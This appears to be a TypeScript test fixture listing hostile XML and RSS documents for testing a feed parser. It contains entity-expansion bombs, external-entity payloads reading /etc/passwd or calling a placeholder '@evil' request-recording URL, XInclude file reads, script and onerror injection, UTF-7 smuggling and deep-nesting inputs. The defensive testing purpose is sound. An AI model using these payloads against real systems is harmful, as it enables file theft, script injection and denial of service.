import type { Hazard } from './json-hazards.js';

const GOOD = '<item><title>Tides</title><link>https://town.example/tides</link></item>';
const RUN = '<script>pwned()</script>';
const channel = (hostile: string, before = '') =>
  `${before}<rss version="2.0"><channel>${hostile}${GOOD}</channel></rss>`;
const item = (title: string) => `<item><title>${title}</title><link>https://town.example/x</link></item>`;
const bomb = Array.from({ length: 20 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('');

/**
 * XML documents, each with a valid post called "Tides" unless noted otherwise. `@evil` is a URL that records requests.
 */
export const XML_HAZARDS: Record<string, Hazard> = {
  'a billion laughs': { body: channel(item('&e20;'), `<!DOCTYPE rss [<!ENTITY e0 "ha">${bomb}]>`) },
  'a quadratic blow-up': {
    body: channel(item('&a;'.repeat(50_000)), `<!DOCTYPE rss [<!ENTITY a "${'a'.repeat(50_000)}">]>`),
  },
  'a recursive entity': {
    body: channel(item('&a;'), '<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'),
  },
  'an external entity with a local file': {
    body: channel(item('&a;'), '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
  },
  'an external entity': { body: channel(item('&a;'), '<!DOCTYPE rss [<!ENTITY a SYSTEM "@evil">]>') },
  'a public external entity': {
    body: channel(item('&a;'), '<!DOCTYPE rss [<!ENTITY a PUBLIC "-//X//X" "@evil">]>'),
  },
  'an external parameter entity': {
    body: channel('', '<!DOCTYPE rss [<!ENTITY % a SYSTEM "@evil"> %a;]>'),
  },
  'a parameter entity that declares another entity': {
    body: channel(item('&b;'), `<!DOCTYPE rss [<!ENTITY % a "<!ENTITY b SYSTEM '@evil'>"> %a;]>`),
  },
  'an entity with markup': { body: channel(item('&a;'), `<!DOCTYPE rss [<!ENTITY a "${RUN}">]>`) },
  'a redefined predefined entity': {
    body: channel(item('&amp;lt;'), '<!DOCTYPE rss [<!ENTITY amp "<">]>'),
  },
  'an external DTD': { body: channel('', '<!DOCTYPE rss SYSTEM "@evil">') },
  'a public external DTD': { body: channel('', '<!DOCTYPE rss PUBLIC "-//X//X" "@evil">') },
  'a DTD that ends early': {
    body: channel('', `<!DOCTYPE rss [<!ENTITY a "]>${RUN}">]>`),
  },
  'default attributes': { body: channel('', '<!DOCTYPE rss [<!ATTLIST item onclick CDATA "pwned()">]>') },
  XInclude: { body: channel('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@evil"/>') },
  'XInclude of text': {
    body: channel(
      item(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>x',
      ),
    ),
  },
  'a style sheet': { body: channel('', '<?xml-stylesheet type="text/xsl" href="@evil"?>') },
  'an inline style sheet': {
    body: channel('', '<?xml-stylesheet type="text/css" href="data:text/css,*{color:red}"?>'),
  },
  'an external schema': {
    body: channel('', '').replace('<rss ', '<rss xmlns:xsi="x" xsi:schemaLocation="x @evil" '),
  },
  'a namespace with an external URL': { body: channel('', '').replace('<rss ', '<rss xmlns:x="@evil" ') },
  'an HTML script between posts': {
    body: channel(`<script xmlns="http://www.w3.org/1999/xhtml">pwned()</script>`),
  },
  'an SVG with a script between posts': {
    body: channel(`<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()">${RUN}</svg>`),
  },
  'an HTML script as a title': {
    body: channel(item(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>x`)),
  },
  'an image as a title': { body: channel(item('<img src="x" onerror="pwned()"/>x')) },
  'nested CDATA sections': { body: channel(item(`<![CDATA[<![CDATA[${RUN}]]>]]>`)) },
  'markup between CDATA sections': { body: channel(item(`<![CDATA[x]]>${RUN}<![CDATA[x]]>`)) },
  'a comment with an invalid end': { body: channel(item(`<!--x--!>${RUN}<!-- -->x`)) },
  'a comment of dashes only': { body: channel(item(`<!------>${RUN}`)) },
  'a processing instruction in the title': { body: channel(item(`<?php pwned() ?>${RUN}`)) },
  'attributes without quotes': {
    body: channel('<item onclick=pwned()><title>x</title><link>/x</link></item>'),
  },
  'duplicate attributes': {
    body: channel('<item a="1" a="2" onclick="pwned()" onclick="x"><title>x</title></item>'),
  },
  'attributes named like prototype properties': {
    body: channel('<item __proto__="x" constructor="x"><title>x</title><link>/x</link></item>'),
  },
  'elements named like prototype properties': {
    body: channel('<item><__proto__>x</__proto__><constructor>x</constructor><link>/x</link></item>'),
  },
  'a hundred thousand nested elements': { body: channel(`<a>`.repeat(100_000) + '</a>'.repeat(100_000)) },
  'a hundred thousand unopened end tags': { body: channel('</a>'.repeat(100_000)) },
  'a hundred thousand elements in a post': {
    body: channel(`<item>${'<category>x</category>'.repeat(100_000)}<link>/x</link></item>`),
  },
  'a hundred thousand attributes': {
    body: channel(
      `<item ${Array.from({ length: 100_000 }, (_, i) => `a${i}="x"`).join(' ')}><link>/x</link></item>`,
    ),
  },
  'a nested post': {
    body: channel(
      `<item><title>x</title><link>/x</link>${GOOD.replace('Tides', 'y').replace('tides', 'y')}</item>`,
    ),
  },
  'end tags in the wrong order': { body: channel('<item><title>x</item></title>') },
  'a missing end tag': { body: `<rss><channel>${GOOD}<item><title>x` },
  'a script as the base URL': {
    body: channel('', '').replace('<channel>', '<channel xml:base="javascript:pwned()">'),
  },
  'a base URL on another host': {
    body: channel('<item xml:base="@evil"><title>x</title><link>y</link></item>'),
  },
  'characters not allowed in XML': {
    body: channel(item('x\u0001\u0008\u000B&#1;&#0;&#xFFFE;&#xD800;&#x110000;')),
  },
  'an unknown encoding': { body: channel('', '<?xml version="1.0" encoding="x-evil"?>') },
  'an incorrect encoding declaration': { body: channel('', '<?xml version="1.0" encoding="utf-16"?>') },
  'UTF-7': {
    body: channel(item('+ADw-script+AD4-pwned()+ADw-/script+AD4-'), '<?xml version="1.0" encoding="utf-7"?>'),
  },
  'an unknown XML version': { body: channel('', '<?xml version="9.9"?>') },
  'two roots': {
    body: `${channel('')}<rss><channel><item><title>x</title><link>/x</link></item></channel></rss>`,
  },
  'markup before the root': { body: channel('', `<!-- ${RUN} -->`) },
  'markup after the root': { body: `${channel('')}${RUN}` },
  'only an entity bomb': { body: `<!DOCTYPE x [<!ENTITY e0 "ha">${bomb}]><x>&e20;</x>`, fails: 'not-a-feed' },
  'an SVG': {
    body: `<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()">${RUN}</svg>`,
    fails: 'not-a-feed',
  },
  'an XHTML page': {
    body: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${RUN}</body></html>`,
    fails: 'not-a-feed',
  },
  OPML: { body: '<opml><body><outline xmlUrl="@evil"/></body></opml>', fails: 'not-a-feed' },
  'a sitemap without titles': {
    body: '<urlset><url><loc>javascript:pwned()</loc></url></urlset>',
    fails: 'not-a-feed',
  },
  'an error message': {
    body: `<Error><Code>AccessDenied</Code><Message>${RUN}</Message></Error>`,
    fails: 'not-a-feed',
  },
  'a style sheet instead of a feed': {
    body: '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>',
    fails: 'not-a-feed',
  },
};
